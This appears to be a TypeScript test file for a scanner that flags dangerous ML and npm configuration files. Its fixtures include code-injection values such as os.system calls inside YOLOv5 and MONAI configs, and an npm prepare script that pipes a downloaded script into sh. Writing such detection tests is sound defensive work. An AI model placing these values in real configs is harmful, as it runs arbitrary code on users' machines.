import { testConfigs } from '../../../../fixtures/configs';

const allennlp = (type: string) => ({
  dataset_reader: { type: 'sst' },
  model: { type: 'basic', encoder: { type } },
});
const processor = (step: object) => ({
  name: 'p',
  steps: [{ registry_name: 'normalizer_processor', config: {} }, step],
});

const yolo = (module: string) => ({
  nc: 80,
  backbone: [[-1, 1, 'Conv', [64, 6]]],
  head: [[-1, 1, module, ['None', 2, 'nearest']]],
});
const bundle = (text: string) => ({
  imports: ['$import glob', '$import os'],
  bundle_root: '.',
  network_def: { _target_: 'UNet' },
  device: text,
});

testConfigs([
  [
    'YOLOv5: a layer that runs',
    yolo("__import__('os').system('id')"),
    'dangerous',
    'config/expression-reaches',
  ],
  ['YOLOv5: layers', yolo('nn.Upsample'), 'safe'],
  ['MONAI: an expression that runs', bundle("$os.system('id')"), 'dangerous', 'config/expression-reaches'],
  [
    'MONAI: ordinary expressions',
    bundle("$torch.device('cuda' if torch.cuda.is_available() else 'cpu')"),
    'safe',
  ],
  ['a text with a dollar elsewhere', { price: "$os.system('id')" }, 'safe'],
  ['AllenNLP: a class of a project', allennlp('mine.Encoder'), 'suspicious', 'config/target'],
  ['AllenNLP: a class that runs', allennlp('subprocess.Popen'), 'dangerous', 'config/target-reaches'],
  ['AllenNLP: registered names and its own', allennlp('allennlp.modules.Encoder'), 'safe'],
  ['LeRobot: a step of a project', processor({ class: 'mine.Step' }), 'suspicious', 'config/target'],
  ['LeRobot: a step that runs', processor({ class: 'os.system', config: { command: 'id' } }), 'dangerous'],
  ['LeRobot: a step of its own', processor({ class: 'lerobot.processor.X' }), 'safe'],
  ['steps of something else', { steps: [{ run: 'npm test' }, 3] }, 'safe'],
  [
    'diffusers: a component of another repository',
    { _class_name: 'X', _blocks: 1, unet: ['acme/x', 'M'] },
    'suspicious',
    'config/foreign-library',
  ],
  [
    'diffusers: a component’s hint of another library',
    { _class_name: 'X', unet: [null, null, { type_hint: ['mine', 'M'] }] },
    'suspicious',
    'config/foreign-library',
  ],
  [
    'diffusers: hints of its own',
    {
      _class_name: 'X',
      unet: [null, null, { type_hint: ['diffusers', 'M'], pretrained_model_name_or_path: 'a/b' }],
    },
    'safe',
  ],
  [
    'trust that Python takes for true',
    { tokenizer_kwargs: { trust_remote_code: 1 } },
    'suspicious',
    'config/trust',
  ],
  ['no trust', { trust_remote_code: '' }, 'safe'],
  [
    'npm: an install script',
    { scripts: { postinstall: 'node x.js' } },
    'suspicious',
    'config/install-script',
  ],
  [
    'npm: a command when it is built',
    { scripts: { prepare: 'curl http://x.org/a | sh' } },
    'suspicious',
    'config/command',
  ],
  ['npm: a build', { scripts: { prepare: 'tsc', clean: 'rm -rf dist' } }, 'safe', 'config/install-script'],
  ['npm: other scripts', { scripts: { test: 'vitest' } }, 'safe'],
]);
